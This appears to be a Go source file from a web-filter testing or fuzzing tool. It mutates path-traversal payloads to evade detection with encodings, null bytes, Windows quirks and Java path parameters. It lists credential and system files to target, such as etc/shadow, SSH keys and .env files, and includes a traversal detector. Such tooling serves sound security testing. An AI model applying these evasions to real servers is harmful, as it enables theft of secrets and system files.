package evasion

import (
	"math/rand/v2"
	"regexp"
	"strconv"
	"strings"
)

var traversalClass = []string{"traversal"}

// traversalMutations keep what a file system resolves a path to, or reach for
// a file as telling.
var traversalMutations = Suite{
	onPayload("path-dot", traversalClass, pathDot),
	onPayload("path-up", traversalClass, pathUp),
	onPayload("path-separator", traversalClass, pathSeparator),
	onPayload("path-prefix", traversalClass, pathPrefix),
	onPayload("path-detour", traversalClass, pathDetour),
	onPayload("path-target", traversalClass, pathTarget),
	onPayload("path-null", traversalClass, pathNull),
	onPayload("path-windows", traversalClass, pathWindows),
	{Name: "path-parameter", Classes: traversalClass, Apply: pathParameter},
	{Name: "path-escape", Classes: traversalClass, Apply: pathEscape},
}

var (
	pathSlash       = regexp.MustCompile(`[^/:]/`)
	pathUnit        = regexp.MustCompile(`\.\.([/\\])`)
	pathWindowsFile = regexp.MustCompile(`(?i)(boot\.ini|win\.ini|windows|winnt|system32|[c-z]:[\\/]|inetpub|web\.config)`)
	pathUnixFile    = regexp.MustCompile(`(etc|proc|var|usr|home|root)(?:/+\.?[\w\-]+(?:\.[\w\-]+)*)+`)
)

// pathDot puts steps that lead nowhere after slashes.
func pathDot(text string, r *rand.Rand) string {
	spans := pathSlash.FindAllStringIndex(text, -1)
	out, _ := replaceSome(text, spans, r, 0.4, func(s string) string { return s + pick(r, "./", "/", "././", "//", ".//", "/./") })
	return out
}

// pathUp climbs further: above the root is the root.
func pathUp(text string, r *rand.Rand) string {
	m := pathUnit.FindStringIndex(text)
	if m == nil {
		return text
	}
	return text[:m[0]] + strings.Repeat(text[m[0]:m[1]], 1+r.IntN(10)) + text[m[0]:]
}

// pathSeparator uses the other separator where Windows reads the path.
func pathSeparator(text string, r *rand.Rand) string {
	if !pathWindowsFile.MatchString(text) {
		return text
	}
	out := []byte(text)
	to := pick(r, "/", `\`, "")
	for i, c := range out {
		if c == '/' || c == '\\' {
			switch {
			case to != "":
				out[i] = to[0]
			case r.IntN(2) == 0:
				out[i] = '/' + '\\' - c
			}
		}
	}
	return string(out)
}

// pathPrefix begins in a folder that is there.
func pathPrefix(text string, r *rand.Rand) string {
	if !strings.HasPrefix(text, "..") {
		return text
	}
	separator := "/"
	if strings.HasPrefix(text, `..\`) {
		separator = `\`
	}
	ups := strings.Repeat(".."+separator, 1+r.IntN(4))
	return strings.ReplaceAll(pick(r, "./", "images/", "static/img/", "/var/www/html/", "./templates/", "en/", "files/2025/", "/srv/app/public/", "../files/", "uploads/"+name(r)+"/", "/"), "/", separator) + ups + text
}

// pathDetour goes back into the same folder.
func pathDetour(text string, r *rand.Rand) string {
	out, _ := replaceSome(text, pathFolder.FindAllStringIndex(text, -1), r, 1, func(s string) string {
		return s + "../" + pick(r, s, "./"+s, "../"+s)
	})
	return out
}

// pathTarget reaches for another file that such attacks reach for.
func pathTarget(text string, r *rand.Rand) string {
	if m := pathINI.FindStringIndex(text); m != nil {
		return text[:m[0]] + pick(r, "boot.ini", "win.ini", "system.ini", `windows/win.ini`, "windows/system.ini", "inetpub/wwwroot/web.config", "windows/system32/drivers/etc/hosts", "windows/php.ini", "windows/repair/sam") + text[m[1]:]
	}
	m := pathUnixFile.FindStringIndex(text)
	if m == nil || pathWindowsFile.MatchString(text) || m[1] < len(text) && strings.IndexByte("\x00 ;&", text[m[1]]) < 0 {
		return text
	}
	return text[:m[0]] + pick(r, "etc/passwd", "etc/shadow", "etc/group", "etc/hosts", "etc/issue", "etc/hostname", "etc/crontab", "etc/fstab", "etc/ssh/sshd_config", "etc/nginx/nginx.conf", "etc/mysql/my.cnf",
		"proc/self/environ", "proc/version", "proc/self/cmdline", "proc/self/fd/7", "proc/mounts", "var/log/auth.log", "var/log/nginx/access.log", "root/.ssh/id_rsa", "root/.bash_history", "home/ubuntu/.ssh/authorized_keys", "var/www/html/.env", "etc/os-release") + text[m[1]:]
}

// pathNull ends the name for what reads it as a C string.
func pathNull(text string, r *rand.Rand) string {
	if strings.Contains(text, "\x00") || strings.Contains(text, "%00") {
		return text
	}
	return text + "\x00" + pick(r, "", ".png", ".html", ".php", "."+name(r))
}

// pathWindows uses what Windows does not care about: case, dots and blanks at
// the end.
func pathWindows(text string, r *rand.Rand) string {
	if !pathWindowsFile.MatchString(text) {
		return text
	}
	switch r.IntN(3) {
	case 0:
		return mixCase(text, r)
	case 1:
		return text + pick(r, ".", "...", " ", ". .", "::$DATA")
	}
	return strings.ReplaceAll(text, "win.ini", pick(r, "WIN.INI", "win.ini.", "Win.Ini"))
}

// pathParameter adds path parameters, which Java containers drop (RFC 3986
// section 3.3).
func pathParameter(c *Candidate, r *rand.Rand) bool {
	if c.Place != Path {
		return false
	}
	out, ok := replaceSome(c.Payload, pathClimb.FindAllStringIndex(c.Payload, -1), r, 0.6, func(string) string {
		return pick(r, "..;/", "..;"+name(r)+"="+name(r)+"/", "..;a/")
	})
	c.Payload = out
	return ok
}

// pathEscape percent-encodes some dots and slashes of the path, for what
// decodes once more than it should.
func pathEscape(c *Candidate, r *rand.Rand) bool {
	if c.Depth() >= maxDepth || c.inner > 0 {
		return false
	}
	spans := pathPunctuation.FindAllStringIndex(c.Payload, -1)
	kind := r.IntN(3)
	out, ok := replaceSome(c.Payload, spans, r, 0.5, func(s string) string {
		switch {
		case kind == 0 && s != ".", kind == 1 && s == ".":
			return s
		}
		return map[string]string{".": "%2e", "/": "%2f", `\`: "%5c"}[s]
	})
	c.Payload = out
	c.inner++
	return ok
}

var pathTelling = regexp.MustCompile(`(?i)\.\.[/\\;]|^(file:/+|/+|[c-z]:[/\\])(etc|proc|var|usr|home|root|windows|winnt|boot\.ini|inetpub)\b|web-inf|\.htaccess`)

// Traverses says whether a text, decoded as often as a server may, climbs out
// of a folder or names a file that is nobody's business.
func Traverses(text string) bool {
	for range maxDepth + 1 {
		if pathTelling.MatchString(text) {
			return true
		}
		text = foldOverlong(unpercent(text))
	}
	return false
}

// foldOverlong writes overlong UTF-8, of up to six bytes as its first
// definition had them (RFC 2279), and %uXXXX of ASCII characters and of what
// code pages map to dots and slashes as the characters meant.
func foldOverlong(text string) string {
	out := make([]byte, 0, len(text))
	for i := 0; i < len(text); i++ {
		c := text[i]
		if c == '%' && i+5 < len(text) && text[i+1]|0x20 == 'u' {
			if v, err := strconv.ParseUint(text[i+2:i+6], 16, 16); err == nil {
				switch v {
				case 0x2215, 0x2044, 0xff0f:
					v = '/'
				case 0x2216, 0xff3c:
					v = '\\'
				case 0xff0e, 0x2024:
					v = '.'
				}
				if v < 0x80 {
					out = append(out, byte(v))
					i += 5
					continue
				}
			}
		}
		n := 0
		for c<<n&0x80 != 0 {
			n++
		}
		v := int(c) & (0x7f >> n)
		tail := n - 1
		for j := 1; j < n && n <= 6; j++ {
			if i+j < len(text) && text[i+j]&0xc0 == 0x80 {
				v = v<<6 | int(text[i+j]&0x3f)
				tail--
			}
		}
		if n >= 2 && n <= 6 && tail == 0 && v < 0x80 {
			out = append(out, byte(v))
			i += n - 1
			continue
		}
		out = append(out, c)
	}
	return string(out)
}

var (
	pathFolder      = regexp.MustCompile(`\b(etc|proc|var|usr|windows|WINDOWS|Windows)/`)
	pathClimb       = regexp.MustCompile(`\.\./`)
	pathPunctuation = regexp.MustCompile(`[./\\]`)
	pathINI         = regexp.MustCompile(`(?i)(boot\.ini|win\.ini)`)
)
